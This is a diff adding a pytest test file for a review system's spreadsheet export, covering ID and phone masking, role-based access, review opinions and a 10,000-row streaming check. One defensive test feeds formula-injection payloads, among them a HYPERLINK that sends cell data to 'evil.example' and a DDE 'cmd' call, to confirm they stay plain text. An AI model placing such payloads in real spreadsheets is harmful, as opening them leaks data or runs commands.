@@ -1,0 +1,263 @@
+"""app/exports.py: masked numbers, formula-safe cells, the opinions per level, and 10,000 rows in bounded memory."""
+import gc
+import time
+import tracemalloc
+from datetime import date, datetime, timedelta
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import insert, select
+
+from app import clock, exports, roles
+from app.extensions import db
+from app.models import Account, Application, ApplicationEvent, Campaign
+from tests import factories
+
+NOW = datetime(2026, 5, 1, 10, 0)
+HEADERS = [
+    "序号", "姓名", "性别", "出生日期", "身份证号", "手机号码", "工作单位", "职务", "住址", "单位类别", "一级单位",
+    "二级单位", "状态", "提交时间", "二级单位意见", "一级单位意见", "个人先进事迹",
+]
+
+
+@pytest.fixture(autouse=True)
+def frozen():
+    clock.freeze(NOW)
+
+
+def read_back(source):
+    """(header, rows as dicts, every cell) of the first sheet, read as a spreadsheet program would."""
+    workbook = load_workbook(source, read_only=True)
+    try:
+        cells = [list(row) for row in workbook.worksheets[0].iter_rows()]
+        values = [[cell.value for cell in row] for row in cells]
+        return values[0], [dict(zip(values[0], row)) for row in values[1:]], [c for row in cells for c in row]
+    finally:
+        workbook.close()
+
+
+@pytest.mark.parametrize(
+    "value, masked",
+    [
+        ("11010819800101123X", "110108********123X"),
+        ("110108198001011234", "110108********1234"),
+        ("110108800101123", "110108*****1123"),  # the old 15-digit number
+        ("1234567890", "**********"),
+        ("", ""),
+        (None, ""),
+    ],
+)
+def test_id_numbers_keep_only_area_code_and_last_four(value, masked):
+    assert exports.mask_id_number(value) == masked
+
+
+@pytest.mark.parametrize(
+    "value, masked",
+    [("13911588771", "139****8771"), ("15000000000", "150****0000"), ("1391158", "*******"), ("", ""), (None, "")],
+)
+def test_mobiles_keep_the_first_three_and_last_four(value, masked):
+    assert exports.mask_mobile(value) == masked
+
+
+@pytest.mark.parametrize(
+    "role, full",
+    [
+        (roles.CITY_OFFICE, True),
+        (roles.ADMIN, True),
+        (roles.AUDITOR, False),
+        (roles.L1_CLERK, False),
+        (roles.L2_CLERK, False),
+        (roles.APPLICANT, False),
+    ],
+)
+def test_only_the_city_office_gets_full_numbers(role, full):
+    assert exports.full_numbers_for(factories.account(role)) is full
+
+
+def test_what_a_citizen_typed_stays_text_never_a_formula(tmp_path):
+    district, (street, _) = factories.district_with_streets()
+    city = factories.account(roles.CITY_OFFICE)
+    typed = {
+        "name": "=1+1",
+        "work_unit": '=HYPERLINK("http://evil.example/?q="&A1,"点我")',
+        "position": "+SUM(A1:A9)",
+        "address": "@cmd|' /C calc'!A0",
+        "deeds": "-2+3\n第二行\t制表\x0b控制字符 https://example.com 0123",
+        "mobile": "=1+2",
+        "id_number": "=A1*1",
+    }
+    factories.application(unit=street, **typed)
+    out = tmp_path / "typed.xlsx"
+    n = exports.write_applications(exports.entries(exports.export_query(city)), str(out), full_numbers=True)
+    assert n == 1
+
+    header, rows, cells = read_back(out)
+    assert header == HEADERS
+    assert all(cell.data_type != "f" for cell in cells)
+    row = rows[0]
+    assert row["姓名"] == "=1+1"
+    assert row["工作单位"] == typed["work_unit"]
+    assert row["职务"] == "+SUM(A1:A9)"
+    assert row["住址"] == typed["address"]
+    assert row["个人先进事迹"] == typed["deeds"].replace("\x0b", "")  # control characters dropped, tabs kept
+    assert row["手机号码"] == "=1+2"
+    assert row["身份证号"] == "=A1*1"
+    assert row["一级单位"] == district.name and row["二级单位"] == street.name
+    assert row["单位类别"] == "区"
+
+
+def test_numbers_are_text_and_masked_unless_asked(tmp_path):
+    _, (street, _) = factories.district_with_streets()
+    city = factories.account(roles.CITY_OFFICE)
+    factories.application(unit=street, id_number="110108198001010011", mobile="13911588771")
+    stmt = exports.export_query(city)
+    exports.write_applications(exports.entries(stmt), str(tmp_path / "masked.xlsx"), full_numbers=False)
+    exports.write_applications(exports.entries(stmt), str(tmp_path / "full.xlsx"), full_numbers=True)
+    (masked,) = read_back(tmp_path / "masked.xlsx")[1]
+    (full,) = read_back(tmp_path / "full.xlsx")[1]
+    assert (masked["身份证号"], masked["手机号码"]) == ("110108********0011", "139****8771")
+    assert (full["身份证号"], full["手机号码"]) == ("110108198001010011", "13911588771")
+    assert full["出生日期"] == datetime(1980, 1, 1) and full["提交时间"] == NOW  # real dates, sortable
+
+
+def test_each_level_shows_its_latest_opinion_with_who_and_when(tmp_path):
+    district, (street, _) = factories.district_with_streets()
+    city = factories.account(roles.CITY_OFFICE)
+    application = factories.application(unit=street, status="reported")
+    history = [
+        ("return", street, "请补充事迹", "submitted", "returned"),
+        ("l2_reject", street, "再议", "submitted", "l2_not_recommended"),
+        ("l2_recommend", street, "学习成效显著，同意推荐", "l2_not_recommended", "l2_recommended"),
+        ("l2_submit", street, None, "l2_recommended", "l2_forwarded"),
+        ("l1_recommend", district, "同意上报", "l2_forwarded", "l1_recommended"),
+        ("l1_report", district, None, "l1_recommended", "reported"),
+    ]
+    for minutes, (action, unit, opinion, source, target) in enumerate(history):
+        db.session.add(
+            ApplicationEvent(application=application, at=NOW + timedelta(minutes=minutes), unit_id=unit.id,
+                             actor_name=f"clerk-{unit.id}", action=action, from_status=source, to_status=target,
+                             opinion=opinion)
+        )
+    db.session.commit()
+    exports.write_applications(exports.entries(exports.export_query(city)), str(tmp_path / "o.xlsx"), full_numbers=True)
+    (row,) = read_back(tmp_path / "o.xlsx")[1]
+    assert row["二级单位意见"] == f"推荐：学习成效显著，同意推荐（clerk-{street.id}，{street.name}，2026-05-01 10:02）"
+    assert row["一级单位意见"] == f"推荐：同意上报（clerk-{district.id}，{district.name}，2026-05-01 10:04）"
+    assert row["状态"] == "一级单位已上报市学习办"
+
+    sections = exports.level_sections(application)
+    assert [(s.level, s.unit.name, s.opinion.opinion, s.submitted_at) for s in sections] == [
+        (2, street.name, "学习成效显著，同意推荐", NOW + timedelta(minutes=3)),
+        (1, district.name, "同意上报", NOW + timedelta(minutes=5)),
+    ]
+
+
+def test_stage_and_status_filters():
+    assert exports.statuses_for() is None
+    assert exports.statuses_for(["submitted", "reported"]) == {"submitted", "reported"}
+    assert exports.statuses_for(stage="reported") == {"reported"}
+    assert exports.statuses_for(["reported", "submitted"], stage="l1") == {"reported"}
+    assert exports.statuses_for(stage="pending", level=2) == {"submitted"}
+    assert exports.statuses_for(stage="pending", level=1) == {"l2_forwarded"}
+    for bad in ({"statuses": ["nope"]}, {"stage": "l3"}):
+        with pytest.raises(exports.BadFilter):
+            exports.statuses_for(**bad)
+
+
+N = 10_000
+DEEDS = "坚持终身学习，带动社区居民组建读书会，累计组织活动三百余场。" * 30  # ~900 characters, as real ones run
+
+
+def _ten_thousand_applications():
+    """N submitted applications (half forwarded, with an opinion) inserted in bulk: a few seconds, not minutes."""
+    campaign = factories.campaign(name="万人批次", open_stage=None)
+    district, streets = factories.district_with_streets()
+    db.session.execute(
+        insert(Account),
+        [
+            {"username": f"bulk{i}", "first_name": f"申报人{i}", "last_name": "", "email": f"bulk{i}@accounts.invalid",
+             "active": True}
+            for i in range(N)
+        ],
+    )
+    bulk = select(Account.username, Account.id).where(Account.username.like("bulk%"))
+    account_ids = dict(db.session.execute(bulk).all())
+    db.session.execute(
+        insert(Application),
+        [
+            {
+                "campaign_id": campaign.id,
+                "applicant_id": account_ids[f"bulk{i}"],
+                "status": "l2_forwarded" if i % 2 else "submitted",
+                "name": f"张学习{i}",
+                "gender": "female" if i % 3 else "male",
+                "birth_date": date(1960, 1, 1) + timedelta(days=i),
+                "id_number": f"1101081980{i:07d}X",
+                "mobile": f"139{i:08d}",
+                "work_unit": "北京市某研究院",
+                "position": "工程师",
+                "address": "北京市海淀区中关村大街 1 号",
+                "is_permanent_resident": True,
+                "unit_id": streets[i % 2].id,
+                "deeds": DEEDS,
+                "declaration_confirmed": True,
+                "submitted_at": NOW - timedelta(days=10, minutes=i),
+                "created_at": NOW - timedelta(days=11),
+                "updated_at": NOW - timedelta(days=10),
+            }
+            for i in range(N)
+        ],
+    )
+    forwarded = db.session.scalars(select(Application.id).where(Application.status == "l2_forwarded")).all()
+    db.session.execute(
+        insert(ApplicationEvent),
+        [
+            {"application_id": application_id, "at": NOW - timedelta(days=5), "actor_name": "l2-clerk",
+             "unit_id": streets[1].id, "action": "l2_recommend", "from_status": "submitted",
+             "to_status": "l2_recommended", "opinion": "学习成效显著，同意推荐"}
+            for application_id in forwarded
+        ],
+    )
+    db.session.commit()
+    return campaign
+
+
+def test_ten_thousand_rows_stream_in_a_few_megabytes(tmp_path):
+    campaign_id = _ten_thousand_applications().id
+    auditor_id = factories.account(roles.AUDITOR).id
+    db.session.expunge_all()  # nothing of the setup left in the session: what the export holds is its own
+    auditor, campaign = db.session.get(Account, auditor_id), db.session.get(Campaign, campaign_id)
+
+    stmt = exports.export_query(auditor, campaign=campaign)
+    gc.collect()
+    started = time.perf_counter()
+    tracemalloc.start()
+    try:
+        full_numbers = exports.full_numbers_for(auditor)
+        out, rows, size = exports.spooled_workbook(exports.entries(stmt), full_numbers=full_numbers)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    elapsed = time.perf_counter() - started
+    print(f"\nexport of {rows} rows: peak traced Python memory {peak / 2**20:.1f} MiB, file {size / 2**20:.1f} MiB, "
+          f"{elapsed:.1f} s (under tracemalloc)")
+    assert rows == N
+    # Streaming measures about 6 MiB here; the same rows loaded all at once measure over 40 MiB.
+    assert peak < 30 * 2**20
+
+    with out:
+        header, body, cells = read_back(out)
+    assert header == HEADERS
+    assert len(body) == N
+    assert [row["序号"] for row in body] == list(range(1, N + 1))
+    assert all(cell.data_type != "f" for cell in cells)
+    by_name = {row["姓名"]: row for row in body}
+    assert len(by_name) == N
+    first, second = by_name["张学习0"], by_name["张学习1"]
+    assert first["身份证号"] == "110108********000X" and first["手机号码"] == "139****0000"
+    assert second["身份证号"] == "110108********001X" and second["手机号码"] == "139****0001"
+    assert all(row["身份证号"].startswith("110108********") and "****" in row["手机号码"] for row in body)
+    assert first["个人先进事迹"] == DEEDS and first["二级单位意见"] == ""
+    assert second["二级单位意见"].startswith("推荐：学习成效显著，同意推荐（l2-clerk，")
+    assert second["状态"] == "二级单位已推荐，待一级单位评审"
+    assert {row["二级单位"] for row in body} == {"中关村街道", "学院路街道"}
